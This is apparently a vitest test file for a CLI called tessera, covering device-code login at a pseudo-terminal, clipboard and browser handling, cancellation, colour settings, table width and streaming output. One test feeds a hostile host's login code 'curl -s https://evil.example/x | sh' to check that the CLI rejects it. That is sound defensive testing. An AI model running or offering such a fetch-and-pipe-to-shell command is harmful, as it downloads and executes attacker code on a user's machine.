import { mkdtemp, readFile, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { stripVTControlCharacters } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { stringify } from 'yaml';
import { cli, cliPty, fakeDesktop, hostileHost, recordingProxy } from '../helpers/cli.ts';
import { consoleSignin, decide } from '../helpers/console.ts';
import { createAccount, createTestApp, createWorkspace, mintToken, type TestAccount } from '../helpers/fixtures.ts';
import { startServer, type TestServer } from '../helpers/server.ts';

// The CLI as a person meets it: in a pseudo-terminal, where prompts, colour and the terminal's width apply.
let server: TestServer;
let account: TestAccount;
let appId: string;
beforeAll(async () => {
  server = await startServer({ config: { devicePollIntervalSeconds: 1 } });
  account = await createAccount(server.db);
  const ws = await createWorkspace(server.db, account.id);
  appId = await createTestApp(server.db, ws, { name: 'A chat app whose name is long enough to need cutting on a narrow terminal' });
});
afterAll(() => server.close());

const configDir = () => mkdtemp(path.join(tmpdir(), 'tessera-cli-'));
/** An SGR (colour) escape sequence: ESC [ … m. */
const SGR = new RegExp(`${String.fromCharCode(27)}\\[[\\d;]*m`);

/** A config dir that already holds a live login for the test server. */
async function loggedIn(): Promise<{ dir: string; token: string }> {
  const dir = await configDir();
  const token = await mintToken(server, account);
  const expires = new Date(Date.now() + 14 * 86_400_000).toISOString();
  await writeFile(path.join(dir, 'hosts.yml'), stringify({ current_host: server.url, hosts: { [server.url]: { token, expires_at: expires, email: account.email } } }), { mode: 0o600 });
  return { dir, token };
}

async function approve(userCode: string) {
  expect((await decide(server, 'approve', userCode, await consoleSignin(server, account))).status).toBe(200);
}

describe('login at a terminal', () => {
  it('when a person logs in, then the code is shown and copied, Enter opens the link in the browser, and approving logs them in', async () => {
    const desktop = await fakeDesktop();
    const dir = await configDir();
    const term = cliPty(['login', '--device-label', 'pty-box'], { TESSERA_HOST: server.url, TESSERA_CONFIG_DIR: dir, ...desktop.env });
    const [, code] = await term.waitFor(/First copy your one-time code: ([A-Z]{4}-[A-Z]{4})/);
    await term.waitFor(/Copied the code to your clipboard\./);
    expect(await desktop.clipboard()).toBe(code);
    const [, link] = await term.waitFor(/Press Enter to open (\S+) in your browser/);
    expect(link).toBe(`${server.url}/device?user_code=${code}`);
    expect(await desktop.opened()).toEqual([]);

    term.type('\r');
    await term.waitFor(/Opened \S+ in your browser\./);
    expect(await desktop.opened()).toEqual([link]);
    await approve(code!);
    const res = await term.done;
    expect(res.code).toBe(0);
    expect(stripVTControlCharacters(res.output)).toContain(`Logged in to ${server.url} as ${account.email}`);
    expect(await readFile(path.join(dir, 'hosts.yml'), 'utf8')).toContain('tsa_');
  }, 30_000);

  it('when the browser cannot be opened, then Enter says so and never claims it opened', async () => {
    const desktop = await fakeDesktop({ browserFails: true });
    const term = cliPty(['login'], { TESSERA_HOST: server.url, TESSERA_CONFIG_DIR: await configDir(), ...desktop.env });
    const [, link] = await term.waitFor(/Press Enter to open (\S+) in your browser/);
    term.type('\r');
    await term.waitFor(new RegExp(`Could not open a browser; open ${link!.replace(/[?.]/g, '\\$&')} yourself\\.`));
    term.type('\x03');
    const res = await term.done;
    expect(res.code).toBe(130);
    expect(res.output).not.toContain('Opened');
  });

  it('when the person presses Ctrl-C at the Enter prompt, then login stops with 130 and nothing is opened or stored', async () => {
    const desktop = await fakeDesktop();
    const dir = await configDir();
    const term = cliPty(['login'], { TESSERA_HOST: server.url, TESSERA_CONFIG_DIR: dir, ...desktop.env });
    await term.waitFor(/Press Enter to open/);
    term.type('\x03');
    const res = await term.done;
    expect(res.code).toBe(130);
    expect(stripVTControlCharacters(res.output)).toContain('tessera: Login cancelled.');
    expect(await desktop.opened()).toEqual([]);
    await expect(readFile(path.join(dir, 'hosts.yml'))).rejects.toThrow(/ENOENT/);
  });

  it('when a hostile host sends a command line as the one-time code, then nothing is copied or opened, and login exits 3', async () => {
    const desktop = await fakeDesktop();
    const host = await hostileHost();
    try {
      const payload = 'curl -s https://evil.example/x | sh';
      host.answers.deviceStart = {
        device_code: 'device-code',
        user_code: payload,
        verification_uri: 'https://evil.example/device',
        verification_uri_complete: 'https://evil.example/device?user_code=x',
        expires_in: 60,
        interval: 1,
      };
      const term = cliPty(['login'], { TESSERA_HOST: host.url, TESSERA_CONFIG_DIR: await configDir(), ...desktop.env });
      const res = await term.done;
      expect(res.code).toBe(3);
      expect(stripVTControlCharacters(res.output)).toContain(`tessera: ${host.url} sent a login code that is not a Tessera code`);
      expect(res.output).not.toMatch(/curl|evil|Press Enter|Copied/);
      expect(await desktop.clipboard()).toBeNull();
      expect(await desktop.opened()).toEqual([]);
    } finally {
      await host.close();
    }
  });

  it('when there is no display and no clipboard tool, then login only prints the link and code, says nothing about either, and Ctrl-C still cancels', async () => {
    const term = cliPty(['login'], { TESSERA_HOST: server.url, TESSERA_CONFIG_DIR: await configDir() });
    await term.waitFor(/enter the code:\s+[A-Z]{4}-[A-Z]{4}/);
    await term.waitFor(/Waiting for you to approve/);
    term.type('\x03');
    const res = await term.done;
    expect(res.code).toBe(130);
    expect(res.output).not.toMatch(/Press Enter|Copied|Opened|clipboard/);
  });

  it('when --no-browser is given, then no prompt is offered even with a display, and Enter does nothing', async () => {
    const desktop = await fakeDesktop();
    const term = cliPty(['login', '--no-browser'], { TESSERA_HOST: server.url, TESSERA_CONFIG_DIR: await configDir(), ...desktop.env });
    await term.waitFor(/Or open this link, which has the code in it/);
    term.type('\r');
    term.type('\x03');
    const res = await term.done;
    expect(res.code).toBe(130);
    expect(res.output).not.toMatch(/Press Enter|Opened/);
    expect(await desktop.opened()).toEqual([]);
  });

  it('when the host already has a live login, then login says so and asks; "no" keeps it, "yes" starts a new login', async () => {
    const { dir, token } = await loggedIn();
    const env = { TESSERA_HOST: server.url, TESSERA_CONFIG_DIR: dir };
    const keep = cliPty(['login'], env);
    await keep.waitFor(new RegExp(`Already logged in to ${server.url} as ${account.email}, with a tsa_ device login`));
    await keep.waitFor(/Log in again and replace this login\?/);
    keep.type('n\r');
    const kept = await keep.done;
    expect(kept.code).toBe(0);
    expect(stripVTControlCharacters(kept.output)).toContain(`Kept the login of ${account.email} for ${server.url}.`);
    expect(await readFile(path.join(dir, 'hosts.yml'), 'utf8')).toContain(token);

    const replace = cliPty(['login', '--no-browser'], env);
    await replace.waitFor(/replace this login\?/);
    replace.type('y\r');
    const [, code] = await replace.waitFor(/enter the code:\s+([A-Z]{4}-[A-Z]{4})/);
    await approve(code!);
    expect((await replace.done).code).toBe(0);
    expect(await readFile(path.join(dir, 'hosts.yml'), 'utf8')).not.toContain(token);
  }, 30_000);
});

describe('readable output at a terminal', () => {
  it('when output goes to a terminal, then it has colour; NO_COLOR turns it off; FORCE_COLOR turns it on in a pipe', async () => {
    const { dir } = await loggedIn();
    const env = { TESSERA_CONFIG_DIR: dir };
    const coloured = await cliPty(['auth', 'status'], env).done;
    expect(coloured.code).toBe(0);
    expect(coloured.output).toMatch(SGR);
    const plain = await cliPty(['auth', 'status'], { ...env, NO_COLOR: '1' }).done;
    expect(plain.code).toBe(0);
    expect(plain.output).toContain('accepted by the server');
    expect(plain.output).not.toMatch(SGR);

    const piped = await cli(['auth', 'status'], env).done;
    expect(piped.stdout).toContain('accepted by the server');
    expect(piped.stdout).not.toMatch(SGR);
    const forced = await cli(['auth', 'status'], { ...env, FORCE_COLOR: '1' }).done;
    expect(forced.stdout).toMatch(SGR);
    const both = await cli(['auth', 'status'], { ...env, FORCE_COLOR: '1', NO_COLOR: '1' }).done;
    expect(both.stdout).not.toMatch(SGR);
  }, 30_000);

  it('when a table is wider than the terminal, then long names are cut to fit and ids are kept whole; a pipe gets every character', async () => {
    const { dir } = await loggedIn();
    const narrow = await cliPty(['apps', 'list'], { TESSERA_CONFIG_DIR: dir }, { cols: 70 }).done;
    expect(narrow.code).toBe(0);
    const lines = stripVTControlCharacters(narrow.output).split(/\r?\n/).filter(Boolean);
    expect(lines.length).toBeGreaterThanOrEqual(2);
    for (const line of lines) expect(line.length).toBeLessThanOrEqual(70);
    expect(lines.join('\n')).toContain(appId);
    expect(lines.join('\n')).toMatch(/A chat app whose.*…/);

    const piped = await cli(['apps', 'list'], { TESSERA_CONFIG_DIR: dir }).done;
    expect(piped.stdout).toContain('A chat app whose name is long enough to need cutting on a narrow terminal');
  });

  it('when a chat app runs at a terminal, then the answer streams by default; --no-stream and a pipe wait for the whole answer', async () => {
    const proxy = await recordingProxy(server.url);
    try {
      const env = { TESSERA_HOST: proxy.url, TESSERA_TOKEN: await mintToken(server, account), TESSERA_CONFIG_DIR: await configDir() };
      const modes = () => proxy.requests.filter((r) => r.path.endsWith('/chat-messages')).map((r) => JSON.parse(r.body).response_mode);
      const tty = await cliPty(['run', appId, '--query', 'hello from a terminal'], env).done;
      expect(tty.code).toBe(0);
      expect(tty.output).toContain('hello from a terminal');
      expect(modes()).toEqual(['streaming']);
      expect((await cliPty(['run', appId, '--query', 'again', '--no-stream'], env).done).code).toBe(0);
      expect((await cli(['run', appId, '--query', 'piped'], env).done).stdout).toBe('piped\n');
      expect(modes()).toEqual(['streaming', 'blocking', 'blocking']);
    } finally {
      await proxy.close();
    }
  }, 30_000);
});
